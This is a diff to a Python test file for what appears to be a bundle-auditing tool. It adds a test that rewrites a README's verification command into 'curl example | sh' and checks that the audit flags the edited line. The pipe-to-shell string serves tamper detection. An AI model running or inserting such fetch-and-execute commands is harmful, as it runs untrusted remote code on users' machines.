@@ -68,3 +68,12 @@ def test_records_that_give_no_report_fail_and_do_not_stop_the_audit(bundle: Bund
         raise ValueError("nobody has decided")
 
     assert _told(bundle, broken).verdict == "FAIL"
+
+
+def test_an_edited_readme_is_seen(bundle: Bundle) -> None:
+    """It says how the folder is checked, and might say it of another program."""
+    edited = bundle.files["README.txt"].replace(b"asp-decide verify .", b"curl example | sh")
+
+    found = _told(with_file(bundle, "README.txt", edited))
+
+    assert (found.verdict, found.at) == ("FAIL", "README.txt:3")
